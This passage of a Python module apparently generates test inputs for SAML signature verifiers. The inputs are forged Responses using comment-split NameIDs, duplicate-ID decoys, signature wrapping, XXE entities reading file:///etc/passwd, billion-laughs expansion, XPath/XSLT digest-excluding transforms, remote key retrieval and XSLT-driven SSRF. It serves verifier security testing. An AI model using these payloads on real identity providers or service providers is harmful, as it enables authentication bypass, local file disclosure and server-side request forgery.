    """`admin@example.com<!---->.evil.example`: exclusive c14n (without comments) drops the
    comment, so the signature still covers the full NameID, while a consumer reading only the
    first text node sees the part before the comment."""
    root = parse(signed)
    nid = root.find(f".//{q(SAML, 'NameID')}")
    text = nid.text
    nid.text = text[:split_at]
    comment = etree.Comment("")
    comment.tail = text[split_at:]
    nid.append(comment)
    return to_bytes(root)


def comment_in_attribute(signed: bytes, name: str, split_at: int) -> bytes:
    """The same comment split in the first value of the attribute `name` (e.g. RoleSessionName)."""
    root = parse(signed)
    for attr in root.iter(q(SAML, "Attribute")):
        if attr.get("Name") == name:
            v = attr.find(q(SAML, "AttributeValue"))
            text = v.text
            v.text = text[:split_at]
            comment = etree.Comment("")
            comment.tail = text[split_at:]
            v.append(comment)
    return to_bytes(root)


def two_assertions(first: Claims, second: Claims, key: KeyPair, signer: str = "xmlsec1") -> bytes:
    """One Response carrying two Assertions, each signed by the IdP."""
    a1, a2 = build_assertion(first), build_assertion(second)
    xml = to_bytes(build_response(first, [a1, a2]))
    xml = sign(xml, key, signer, node_id=first.assertion_id)
    return sign(xml, key, signer, node_id=second.assertion_id)


def duplicate_ids_response_signed(c: Claims, key: KeyPair) -> bytes:
    """Response and Assertion share one ID; the Response is signed (`#ID` is ambiguous). Signed
    by `python_sign`: xmlsec1 refuses to load a document with a duplicate ID."""
    xml = unsigned_response(c.replace(assertion_id=c.response_id, response_id=c.response_id))
    return python_sign(xml, key, "response")


def signature_referencing_the_response_from_the_assertion(c: Claims, key: KeyPair) -> bytes:
    """A valid enveloped signature over the whole Response, placed inside the Assertion: it does
    not sign the element that encloses it."""
    xml = unsigned_response(c)
    root = parse(xml)
    content = etree.tostring(root, method="c14n", exclusive=True, with_comments=False)
    return python_sign(xml, key, "assertion", ref_uri=f"#{c.response_id}", content=content,
                       transforms=(ENVELOPED, EXC_C14N))


def duplicate_id_decoy(signed: bytes, evil_role_pair: str) -> bytes:
    """An evil unsigned Assertion carrying the signed Assertion's ID, placed first."""
    root = parse(signed)
    a = _assertion(root)
    evil = _strip_sig(copy.deepcopy(a))
    inject_identity(evil, evil_role_pair)
    a.addprevious(evil)
    return to_bytes(root)


def _with_doctype(signed: bytes, internal_subset: str, name_id_ref: str | None = None) -> bytes:
    """The document with a DOCTYPE after the XML declaration; optionally the NameID's text
    replaced by an entity reference (which breaks the signature over the NameID)."""
    text = signed.decode()
    decl, rest = text.split("?>", 1) if text.startswith("<?xml") else ("", text)
    root_name = "samlp:Response"
    out = (decl + "?>" if decl else "") + f"\n<!DOCTYPE {root_name} [{internal_subset}]>" + rest
    if name_id_ref is not None:
        root = parse(signed)
        old = root.find(f".//{q(SAML, 'NameID')}").text
        start = out.index(old, out.index("NameID"))
        out = out[:start] + name_id_ref + out[start + len(old):]
    return out.encode()


def doctype_only(signed: bytes) -> bytes:
    """A DTD with nothing in it: the signature still verifies; DTDs are refused outright."""
    return _with_doctype(signed, "")


def xxe_system_entity(signed: bytes, uri: str) -> bytes:
    """An external general entity (file or http URI) used as the NameID."""
    return _with_doctype(signed, f'<!ENTITY xxe SYSTEM "{uri}">', "&xxe;")


def xxe_parameter_entity(signed: bytes, uri: str) -> bytes:
    """An external parameter entity, fetched while the DTD itself is read."""
    return _with_doctype(signed, f'<!ENTITY % remote SYSTEM "{uri}"> %remote;')


def billion_laughs(signed: bytes, levels: int = 10) -> bytes:
    ents = ['<!ENTITY lol0 "lol">']
    for i in range(1, levels):
        ents.append(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">')
    return _with_doctype(signed, "".join(ents), f"&lol{levels - 1};")


def external_reference(xml: bytes, key: KeyPair, ref_uri: str, content: bytes, target: str = "assertion") -> bytes:
    """The IdP key signs a Reference to `ref_uri` (http://127.0.0.1:…/, file:///etc/passwd)
    instead of `#ID`, with the digest of `content` (what the URI yields), so a verifier that
    dereferences it finds a valid signature while nothing of the assertion is covered."""
    return python_sign(xml, key, target, ref_uri=ref_uri, content=content)


def xpath_transform_signed(xml: bytes, key: KeyPair, target: str = "assertion") -> bytes:
    """Signed (by xmlsec1, with the IdP key) through an XPath filter that leaves the Subject and
    the AttributeStatement out of the digest, so they can be rewritten after signing."""
    xp = etree.Element(q(DS, "Transform"), Algorithm=XPATH_TRANSFORM, nsmap={"ds": DS})
    x = etree.SubElement(xp, q(DS, "XPath"), nsmap={"saml": SAML})
    x.text = "not(ancestor-or-self::saml:Subject) and not(ancestor-or-self::saml:AttributeStatement)"
    return _sign_with_xmlsec1(xml, key, target, None, RSA_SHA256, SHA256, (ENVELOPED, xp, EXC_C14N))


# The assertion namespace gets a prefix of its own here: xmlsec1 compiles the stylesheet as a
# document by itself, where a `saml` declaration inherited from the Response would be missing.
XSLT_DROP_IDENTITY = f"""<xsl:stylesheet version="1.0" xmlns:xsl="{XSL}" xmlns:sa="{SAML}">
  <xsl:template match="@*|node()"><xsl:copy><xsl:apply-templates select="@*|node()"/></xsl:copy></xsl:template>
  <xsl:template match="sa:Subject"/>
  <xsl:template match="sa:AttributeStatement"/>
</xsl:stylesheet>"""


def xslt_transform_signed(xml: bytes, key: KeyPair, target: str = "assertion",
                          stylesheet: str = XSLT_DROP_IDENTITY) -> bytes:
    """Signed (by xmlsec1, with the IdP key) through an XSLT transform whose output omits the
    Subject and AttributeStatement."""
    # The stylesheet goes in as text: moved into the tree, lxml would drop its namespace
    # declaration (used only inside attribute values) in favour of the Response's `saml`.
    empty = f'<ds:Transform Algorithm="{XSLT_TRANSFORM}"/>'
    doc, ident = _template_doc(xml, target, None, RSA_SHA256, SHA256, (ENVELOPED, XSLT_TRANSFORM))
    text = doc.decode()
    assert text.count(empty) == 1
    text = text.replace(empty, f'<ds:Transform Algorithm="{XSLT_TRANSFORM}">{stylesheet}</ds:Transform>')
    return xmlsec1_sign(text.encode(), key, ident)


def rsa_sha1_signed(xml: bytes, key: KeyPair, target: str = "assertion") -> bytes:
    """A correct signature, but rsa-sha1 over a sha1 digest."""
    return _sign_with_xmlsec1(xml, key, target, None, RSA_SHA1, SHA1, (ENVELOPED, EXC_C14N))


def with_comments_c14n_signed(xml: bytes, key: KeyPair, target: str = "assertion") -> bytes:
    """A correct signature whose Reference uses exclusive c14n WithComments."""
    return _sign_with_xmlsec1(xml, key, target, None, RSA_SHA256, SHA256, (ENVELOPED, EXC_C14N_COMMENTS))


GROUPS_ATTR = "http://schemas.microsoft.com/ws/2008/06/identity/claims/groups"


def signed_with_b64_length(c: Claims, key: KeyPair, length: int, signer: str = "xmlsec1",
                           target: str = "assertion") -> bytes:
    """A genuinely signed Response whose base64 is exactly `length` characters (a multiple of
    4), grown the way a large directory grows one: a group-membership attribute (Entra ID's
    claim name) with many GUID values, the last value trimmed to fit. Fresh IDs each time."""
    assert length % 4 == 0
    raw = length // 4 * 3  # the byte count whose base64 has this length, without '=' padding
    one = f'<saml:AttributeValue xsi:type="xs:string">{uuid.uuid4()}</saml:AttributeValue>'
    values: list[str] = []
    for _ in range(10):
        cc = c.replace(extra_attributes={**c.extra_attributes, GROUPS_ATTR: values} if values else c.extra_attributes)
        xml = signed_response(cc, key, signer, target)
        delta = raw - len(xml)
        if delta == 0:
            assert len(b64(xml)) == length
            return xml
        if not values:
            # First estimate: whole GUID values, then one value of the remaining length.
            values = [str(uuid.uuid4()) for _ in range(max(0, delta // len(one) - 2))] + ["g"]
        elif len(values[-1]) + delta >= 1:
            values[-1] = "g" * (len(values[-1]) + delta)
        else:
            values = values[:-2] + ["g"]
    raise AssertionError(f"could not reach {length} base64 characters")


def retrieval_method(signed: bytes, uri: str) -> bytes:
    """Each KeyInfo's certificate replaced by a ds:RetrievalMethod pointing at `uri` (a verifier
    that follows it fetches the key from the attacker's location)."""
    root = parse(signed)
    for ki in root.iter(q(DS, "KeyInfo")):
        for c in list(ki):
            ki.remove(c)
        etree.SubElement(ki, q(DS, "RetrievalMethod"), URI=uri, Type="http://www.w3.org/2000/09/xmldsig#X509Data")
    return to_bytes(root)



def xslt_ssrf(xml: bytes, key: KeyPair, url: str, target: str = "assertion") -> bytes:
    """An assertion signature (SignedInfo correctly signed with the IdP key) whose Reference runs
    an XSLT transform that reads `url`: a verifier that computes the digest through it makes a
    request. The DigestValue cannot match (this module never runs the stylesheet), so only the
    fetch, not acceptance, tells whether the transform ran."""
    t = etree.Element(q(DS, "Transform"), Algorithm=XSLT_TRANSFORM, nsmap={"ds": DS})
    t.append(etree.fromstring(f"""<xsl:stylesheet version="1.0" xmlns:xsl="{XSL}">
  <xsl:template match="/"><xsl:copy-of select="document('{url}')"/></xsl:template>
</xsl:stylesheet>""".encode()))
    root = parse(xml)
    ident = _target(root, target).get("ID")
    return python_sign(xml, key, target, ref_uri=f"#{ident}", content=b"", transforms=(ENVELOPED, t))
